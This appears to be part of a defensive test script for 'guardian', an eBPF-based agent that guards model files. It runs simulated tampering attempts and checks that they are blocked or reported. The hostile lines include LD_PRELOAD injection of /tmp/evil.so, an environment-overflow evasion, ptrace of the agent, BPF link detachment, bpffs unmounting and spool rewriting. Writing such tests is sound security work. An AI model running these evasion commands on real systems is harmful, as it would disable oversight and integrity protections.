wait_event "$pid" deny open_unmeasured
events_of "$pid" | grep '"reason":"not_taken_in"' | grep -q '"name":"new.onnx"'
check unmeasured-tree-file-event $? "$(events_of "$pid" | head -n 1 | cut -c1-320)"
# Taken in at the agent's next tick (a guard record in the evidence), the
# writer's update is served.
n=0
while [ "$n" -lt 50 ]; do
    "$INFER" --model /opt/models/new.onnx </opt/inference/inputs.jsonl >/dev/null 2>&1 && break
    sleep 0.2
    n=$((n + 1))
done
[ "$n" -lt 50 ] && grep -q '"take_in"' /run/guardian/measurements.log \
    && grep '"take_in"' /run/guardian/measurements.log | grep -q 'new.onnx'
check tree-file-taken-in $? "after $n tries; $(grep -o '"action":"take_in"[^}]*' /run/guardian/measurements.log | head -n 1 | cut -c1-200)"
"$UPDATER" rm -f /opt/models/new.onnx

say "the attacker borrows identities"
attack prctl-exe prctl_exe guardian-attack prctl-exe /opt/updater/busybox
attack service-traceme ptrace guardian-attack traceme
# (A tracer that is not the service: guardian-attack with one more byte, so
# neither its inode nor its content is the service's.)
cp /usr/bin/guardian-attack /tmp/tracer && printf 'x' >>/tmp/tracer
attack traced-exec-of-service ptrace /tmp/tracer traceme-exec "$INFER" --help
attack ptrace-guardian ptrace /usr/sbin/model-updater ptrace "$agent"
attack preload-guardian exec_preload env LD_PRELOAD=/tmp/evil.so guardian status
# A loader variable placed past what the kernel program reads: an
# environment not read to its end counts as one.
bigenv="$(i=0; while [ "$i" -lt 300 ]; do printf 'FILLER_%d=x ' "$i"; i=$((i + 1)); done)"
# shellcheck disable=SC2086
attack env-overflow exec_preload env $bigenv LD_PRELOAD=/tmp/evil.so guardian-attack sleep 0

# A copy of the service's binary at another path is the service: the
# kernel hashes it (IMA) when it runs and finds the service's digest.
cp /usr/bin/guardian-attack /tmp/svc-copy
attack service-copy-egress connect /tmp/svc-copy connect 127.0.0.3 9999
grep '"event":"service_copy"' "$EVENTS" | grep -q '"path":"/tmp/svc-copy"'
check service-copy-recognised $? "$(grep '"event":"service_copy"' "$EVENTS" | head -n 1 | cut -c1-260)"
cp /usr/bin/guardian-attack /tmp/svc-copy2
attack service-copy-preload exec_preload env LD_PRELOAD=/tmp/evil.so /tmp/svc-copy2 sleep 0
# guardian's own identity is its inode: a copy of guardian is not guardian.
cp /usr/bin/guardian /tmp/guardian-copy
cfgpin="$(ls -d /sys/fs/bpf/guardian/*/maps/GUARDIAN_CONFIG | head -n 1)"
/tmp/guardian-copy stop --unload --config /etc/guardian/guardian.toml --token /dev/null >/tmp/out 2>&1
[ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ] && kill -0 "$agent" && grep -q 'cannot open' /tmp/out
check guardian-copy-powerless $? "$(head -c 200 /tmp/out)"

say "the attacker goes after guardian's own kernel objects (root, bpf(2))"
cfgpin="$(ls -d /sys/fs/bpf/guardian/*/maps/GUARDIAN_CONFIG | head -n 1)"
attack bpf-map-pin bpf_object guardian-attack bpf-obj-get "$cfgpin"
attack bpf-maps-by-id bpf_object guardian-attack bpf-maps-by-id
attack bpf-progs-by-id bpf_object guardian-attack bpf-progs-by-id
link="$(ls -d /sys/fs/bpf/guardian/*/links/* | head -n 1)"
attack bpf-link-detach bpf_object guardian-attack bpf-link-detach "$link"
attack bpffs-umount mount guardian-attack umount /sys/fs/bpf lazy
attack still-enforcing file_write_open sh -c ": >> $MODEL"
grep -q '"mode": "enforce"' /run/guardian/status.json && grep -qE '"tables_tampered": 0,?$' /run/guardian/status.json
check guard-intact $? "$(grep -E '"(tables_tampered|unconfigured_hook_calls)"' /run/guardian/status.json | tr -d ' \n')"

# Detected, not denied: mount(2)'s MS_MOVE names the mount it moves by a
# string the hook cannot resolve. The agent's path check finds the name
# leading elsewhere, reports it and records it in the evidence.
spawn guardian-attack move-mount /srv /mnt
n=0
until grep '"event":"path_changed"' "$EVENTS" 2>/dev/null | grep -q '"file":"/srv'; do
    [ "$n" -ge 50 ] && break
    sleep 0.1
    n=$((n + 1))
done
grep '"event":"path_changed"' "$EVENTS" | grep -q '"file":"/srv'
check detect-move-mount $? "exit $rc; $(grep '"event":"path_changed"' "$EVENTS" | head -n 1 | cut -c1-200)"
n=0
until grep '"kind":"tamper"' /run/guardian/measurements.log | grep -q 'path_changed'; do
    [ "$n" -ge 50 ] && break
    sleep 0.1
    n=$((n + 1))
done
grep '"kind":"tamper"' /run/guardian/measurements.log | grep -q 'path_changed'
check detect-move-mount-in-evidence $? "$(grep -c '"kind":"tamper"' /run/guardian/measurements.log) tamper record(s)"
# (Moved back, so the model is where the rest of the test expects it.)
guardian-attack move-mount /mnt /srv >/dev/null 2>&1
[ -f /srv/models/extra.bin ]
check move-mount-back $? "$(ls /srv/models 2>&1)"

# --- the fleet link -------------------------------------------------------------
# Every denial so far went through the spool to the fleet's NATS on the host
# (run-scenarios.sh reads the store back after the boot).
if [ -n "$fleet" ]; then
    n=0
    until grep -q '"state": "connected"' /run/guardian/status.json \
        && grep -qE '"records_acked": [1-9]' /run/guardian/status.json; do
        [ "$n" -ge 200 ] && break
        sleep 0.1
        n=$((n + 1))
    done
    grep -q '"state": "connected"' /run/guardian/status.json \
        && grep -qE '"records_acked": [1-9]' /run/guardian/status.json
    check fleet-link-connected $? "nats://$fleet $(grep -E '"(state|records_acked|last_error)"' /run/guardian/status.json | tr -d ' \n' | cut -c1-200)"
    say "  guardian status: $(guardian status | grep -iE 'report|link|fleet' | tr '\n' ';' | cut -c1-200)"
    # The spool is guardian's own tree: what waits there for the fleet
    # cannot be rewritten, removed or added to by anyone else, root
    # included.
    say "the attacker goes after the records waiting for the fleet"
    # (Acknowledged segments are gone by now; the spool's epoch, in
    # `meta`, and its acknowledgement mark stay.)
    meta=/run/guardian/spool/meta
    metasum="$(digest "$meta")"
    attack spool-rewrite file_write_open guardian-attack append "$meta" forged
    attack spool-remove file_unlink guardian-attack unlink /run/guardian/spool/acked
    attack spool-plant file_create guardian-attack create /run/guardian/spool/00000000000000000001.seg
    attack spool-dir-rename file_rename guardian-attack rename /run/guardian/spool /run/guardian/spool.old
    [ "$(digest "$meta")" = "$metasum" ] && [ -f /run/guardian/spool/acked ] \
        && [ ! -e /run/guardian/spool/00000000000000000001.seg ] && [ -d /run/guardian/spool ]
    check spool-intact $? "$(ls /run/guardian/spool | tr '\n' ' ')"
fi

# --- enforcement survives the agent ------------------------------------------
say "kill -9 guardian: the kernel keeps enforcing"
kill -9 "$agent"
wait "$agent" 2>/dev/null
guardian-attack write-fd 7 >/tmp/out 2>&1
rc=$?
sh -c "echo \$\$ > /tmp/pid; : > $MODEL" 2>>/tmp/out
rc2=$?
down_pid="$(cat /tmp/pid)"
say "  with no agent running: write-fd -> $(head -n 1 /tmp/out); truncate -> exit $rc2"
[ "$rc" -ne 0 ] && [ "$rc2" -ne 0 ] && [ "$(digest "$MODEL")" = "$after" ]
check kill9-still-denied $? "exit $rc and $rc2, model unchanged"
say "restarting guardian: it adopts the pinned programs instead of loading twice"
start_agent
grep -q '"adopted": true' /run/guardian/status.json && [ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ]
check restart-adopts $? "$(guardian status | grep '^pinned')"
[ -s /run/guardian/status.json ] || tail -n 5 /run/guardian/agent.log | sed 's/^/demo: agent: /' 
# The denial made while no agent ran waited in the pinned ring buffer.
wait_event "$down_pid" deny file_write_open
check events-kept-while-down $? "$(events_of "$down_pid" | head -n 1)"
[ "$(digest "$MODEL")" = "$after" ]
check model-unchanged $? "sha256 $(digest "$MODEL")"

# --- a signed policy, swapped in while guardian runs, moves the kernel ---
# /usr/sbin/model-updater is not an allowed writer in the config. The
# vendor's model-writer policy names it as the only writer of /opt/models/;
# its static rules reach the kernel's tables at the swap, no restart.
say "policy swap: /usr/sbin/model-updater is not an allowed writer yet"
# (A copy of guardian-attack: another inode, so neither the service nor a
# writer.)
attack policy-before-swap file_write_open /usr/sbin/model-updater append "$MODEL" "weights v3"
mkdir -p /etc/guardian/policies
cp /opt/policies/model_writer.wasm /opt/policies/model_writer.wasm.sig /etc/guardian/policies/
say "  installed the signed model_writer policy; SIGHUP to guardian"
kill -HUP "$agent"
n=0
until grep -qE '"generation": 1,' /run/guardian/status.json; do
    [ "$n" -ge 100 ] && break
    sleep 0.1
    n=$((n + 1))
done
grep -qE '"generation": 1,' /run/guardian/status.json
check policy-swap-loaded $? "$(grep -E 'policies: set' /run/guardian/agent.log | tail -n 1)"
sh -c 'echo $$ > /tmp/pid; exec /usr/sbin/model-updater append "$1" "weights v3"' x "$MODEL" >/tmp/err 2>&1
rc=$?
pid="$(cat /tmp/pid)"
say "  model-updater appends: exit $rc $(cat /tmp/err)"
[ "$rc" -eq 0 ] && tail -n 1 "$MODEL" | grep -q 'weights v3'
check policy-swap-allows-writer $? "pid $pid exit $rc"
wait_event "$pid" allow file_write_open
check policy-swap-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"
# The policy's load is in the measurement log, so in the next quote.
grep -q '"kind":"policy"' /run/guardian/measurements.log
check policy-in-evidence $? "$(grep '"kind":"policy"' /run/guardian/measurements.log | head -n 1 | cut -c1-160)"

if grep -q 'guardian.break=1' /proc/cmdline; then
    # Deliberately wrong expectation: the harness must report this FAIL.
    sh -c "echo broken >> $MODEL" 2>/dev/null
    check broken-expects-tamper-to-succeed $? "planted failure (guardian.break=1)"
fi

say "guardian status:"
guardian status | sed 's/^/demo:   /'

# --- the detect rung on arm64 ----------------------------------------------
# What a board without BPF LSM gets (Jetson's 5.10/5.15 kernels): the raw
# sys_exit tracepoint reads the syscall's arguments from arm64's saved
# registers. It cannot deny; each attempt must be reported, with the right
# descriptor (argument 0 is orig_x0 on arm64 once x0 holds the result).
say "the detect rung: guardian restarted in detect mode on a scratch file"
# Taking over the running guard with another config would change what it
# enforces: refused.
sed 's|^allowed_writers = \[|allowed_writers = ["/bin/busybox", |' /etc/guardian/guardian.toml >/tmp/evil.toml
guardian run --config /tmp/evil.toml >/dev/null 2>/tmp/evil.err
rc=$?
[ "$rc" -ne 0 ] && grep -q 'loaded with another configuration' /tmp/evil.err \
    && [ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ]
check reconfigure-refused $? "exit $rc: $(grep -o 'the running guard[^:]*' /tmp/evil.err | head -n 1)"
# A root shell alone cannot switch the guard off ...
guardian stop --unload --config /etc/guardian/guardian.toml >/tmp/out 2>&1
rc=$?
[ "$rc" -ne 0 ] && grep -q 'takes a token' /tmp/out && [ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ]
check unload-needs-token $? "exit $rc: $(head -c 160 /tmp/out)"
# ... nor with the operator's token for another boot ...
boot="$(cat /proc/sys/kernel/random/boot_id)"
guard_id() { sed -n 's/.*"guard_id": "\([0-9a-f]*\)".*/\1/p' /run/guardian/status.json; }
gid="$(guard_id)"
guardian unload-token --key /opt/operator/operator.pem --pub /etc/guardian/operator.pub \
    --boot-id 00000000-0000-0000-0000-000000000000 --guard "$gid" --reason "wrong boot" -o /tmp/other.json 2>/dev/null
guardian stop --unload --config /etc/guardian/guardian.toml --token /tmp/other.json >/tmp/out 2>&1
rc=$?
[ "$rc" -ne 0 ] && grep -q 'is for boot' /tmp/out && [ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ]
check unload-other-boot $? "exit $rc: $(head -c 160 /tmp/out)"
# ... only with a token for this boot, signed by the operator's key.
guardian unload-token --key /opt/operator/operator.pem --pub /etc/guardian/operator.pub \
    --boot-id "$boot" --guard "$gid" --reason "switch to the detect rung" -o /tmp/unload.json 2>/dev/null
guardian stop --unload --config /etc/guardian/guardian.toml --token /tmp/unload.json >/tmp/out 2>&1
rc=$?
[ "$rc" -eq 0 ] && grep -q 'unload authorised' /tmp/out && [ "$(ls /sys/fs/bpf/guardian 2>/dev/null | wc -l)" -eq 0 ] \
    && grep '"action":"unload"' /run/guardian/measurements.log | grep -q 'switch to the detect rung'
check stop-unload $? "exit $rc: $(grep -o 'unload authorised[^;]*' /tmp/out | cut -c1-120); pins left: $(ls /sys/fs/bpf/guardian 2>/dev/null | wc -l)"
# One token, one unload: the guard loaded again (same boot, same config,
# same operator keys) has drawn a new id, and the used token names the
# one it unloaded.
start_agent
gid2="$(guard_id)"
guardian stop --unload --config /etc/guardian/guardian.toml --token /tmp/unload.json >/tmp/out 2>&1
rc=$?
[ "$rc" -ne 0 ] && grep -q "is for guard $gid, but the running guard is $gid2" /tmp/out \
    && [ -n "$gid2" ] && [ "$gid2" != "$gid" ] && [ "$(ls /sys/fs/bpf/guardian | wc -l)" -eq 1 ] && kill -0 "$agent"
check unload-token-replay-refused $? "exit $rc: $(head -c 300 /tmp/out)"
# (A token for the guard now running unloads it: the refusal was the id.)
guardian unload-token --key /opt/operator/operator.pem --pub /etc/guardian/operator.pub \
    --boot-id "$boot" --guard "$gid2" --reason "again, for the detect rung" -o /tmp/unload2.json 2>/dev/null
guardian stop --unload --config /etc/guardian/guardian.toml --token /tmp/unload2.json >/tmp/out 2>&1
rc=$?
[ "$rc" -eq 0 ] && [ "$(ls /sys/fs/bpf/guardian 2>/dev/null | wc -l)" -eq 0 ] \
    && grep '"action":"unload"' /run/guardian/measurements.log | grep -q "token for guard $gid2"
check unload-fresh-token $? "exit $rc: $(grep -o 'unload authorised[^;]*' /tmp/out | cut -c1-160)"
wait "$agent" 2>/dev/null
mkdir -p /opt/detect
echo "weights" >/opt/detect/model.bin
EVENTS=/run/guardian/detect-events.jsonl
exec 9>>/opt/detect/model.bin
start_agent /etc/guardian/detect.toml /run/guardian/detect-status.json /run/guardian/detect-agent.log
grep -q '"mode": "detect"' /run/guardian/detect-status.json \
    && grep -q 'raw_tracepoint/sys_exit (openat, openat2)' /run/guardian/detect-status.json
check detect-rung-status $? "$(grep -o 'raw_tracepoint/sys_exit ([a-z0-9, ]*)' /run/guardian/detect-status.json | sort -u | tr '\n' ';')"
# detect NAME EVENT HOOK CMD...: CMD succeeds (nothing denies) and
# guardian reports an "alert" EVENT for its pid from HOOK.
detect() {
    name=$1 ev=$2 hook=$3
    shift 3
    spawn "$@"
    wait_event "$pid" alert "$ev" \
        && events_of "$pid" | grep "\"event\":\"$ev" | grep -q "\"hook\":\"$hook"
    check "$name" $? "exit $rc: $(events_of "$pid" | grep "\"event\":\"$ev" | head -n 1)"
}
detect detect-write-open file_write_open raw_tracepoint/sys_exit guardian-attack append /opt/detect/model.bin more
detect detect-preopened-fd-write file_write raw_tracepoint/sys_exit guardian-attack write-fd 9
detect detect-ftruncate file_truncate raw_tracepoint/sys_exit guardian-attack ftruncate-fd 9
# Egress goes to the cgroup programs first (report-only in detect mode):
# they need no syscall tracepoint.
detect detect-connect connect cgroup/connect4 guardian-attack connect 127.0.0.3 9999
# No syscall tells an attribute change or a hard link by inode: fanotify
# notification events report them (arm64 file handles, busybox's pid).
detect detect-chmod file_setattr fanotify/attrib chmod 600 /opt/detect/model.bin
detect detect-link file_link fanotify/attrib ln /opt/detect/model.bin /opt/detect/model.link
exec 9>&-
kill "$agent" 2>/dev/null
wait "$agent" 2>/dev/null
finish
